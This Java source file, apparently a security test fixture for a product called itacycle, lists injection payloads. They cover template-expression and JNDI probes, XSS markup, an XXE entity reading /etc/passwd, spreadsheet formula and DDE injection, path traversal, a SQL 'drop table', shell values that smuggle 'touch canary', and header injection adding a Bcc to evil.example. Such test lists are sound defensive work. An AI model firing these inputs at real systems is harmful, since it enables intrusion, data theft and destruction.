package org.itacycle.attack;

import java.util.List;

/** What an attacker types where a text is asked for. */
public final class Payloads {

    /** Put around each payload, so that it is found again wherever it comes out. */
    public static final String MARK = "Zq";

    /** Expressions of every language that any part of this product speaks; evaluated, they leave 49 behind the mark. */
    public static final List<String> EXPRESSIONS = List.of(
            "${7*7}",
            "#{7*7}",
            "*{7*7}",
            "@{7*7}",
            "~{7*7}",
            "[[${7*7}]]",
            "[(${7*7})]",
            "__${7*7}__",
            "{{7*7}}",
            "<%= 7*7 %>",
            "<#assign x=7*7>${x}",
            "#set($x=7*7)$x",
            "${T(java.lang.Runtime).getRuntime()}",
            "T(java.lang.Runtime).getRuntime().exec('true')",
            "${''.getClass().forName('java.lang.Runtime')}",
            "${execution.getVariable('cycleId')}",
            "${applicationContext}",
            "${jndi:ldap://127.0.0.1:9/x}",
            "${env:PATH}",
            "{0} {1} ''{2}'' %s %n",
            "%24%7B7*7%7D");

    /** Markup that would run a script, load something, or break out of where it stands. */
    public static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "</title></textarea></script><script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "<svg/onload=alert(1)>",
            "<th:block th:text=\"${7*7}\"/>",
            "<p th:utext=\"${7*7}\">",
            "<![CDATA[<script>alert(1)</script>]]>",
            "]]><x/>",
            "<!--#exec cmd=\"true\"-->",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[caption][gallery]<?php echo 7*7; ?>");

    /** What a spreadsheet takes for a formula. */
    public static final List<String> FORMULAS = List.of(
            "=7*7", "+7*7", "-7*7", "@SUM(7*7)", "=HYPERLINK(\"http://127.0.0.1:9/\",\"x\")", "=cmd|' /C calc'!A0");

    /** What would leave a folder, end a statement of SQL, or a line of a shell. */
    public static final List<String> PLACES = List.of(
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd",
            "C:\\boot.ini",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "....//....//etc/passwd",
            "file:///etc/passwd",
            "'; drop table ita_cycle; --",
            "$(touch canary)`touch canary`;|touch canary",
            "CON",
            ".htaccess");

    /** Line ends and what stands for them elsewhere: a header or a line of its own. */
    public static final List<String> LINES = List.of(
            "x\r\nBcc: stranger@evil.example",
            "x\nX-Injected: 1",
            "x\r\n\r\n<script>alert(1)</script>",
            "x\u0085Bcc: stranger@evil.example",
            "x\u2028Bcc: stranger@evil.example",
            "x%0d%0aBcc: stranger@evil.example",
            "=?UTF-8?Q?=0D=0ABcc:=20stranger@evil.example?=",
            "x\r\nEND:VEVENT\r\nBEGIN:VEVENT");

    /** Characters that no honest text has: they end strings elsewhere, break databases and XML, or turn what is read. */
    public static final List<String> CHARACTERS = List.of(
            "a\u0000b",
            "a\u0001b",
            "a\u001Bb[31m",
            "a\u007Fb",
            "a\uD800b",
            "a\uDC00b",
            "a\uFFFEb",
            "a\uFFFFb",
            "invoice\u202Efdp.exe",
            "a\u2066b\u2069",
            "a\u200Eb\u200F");

    private Payloads() {}
}
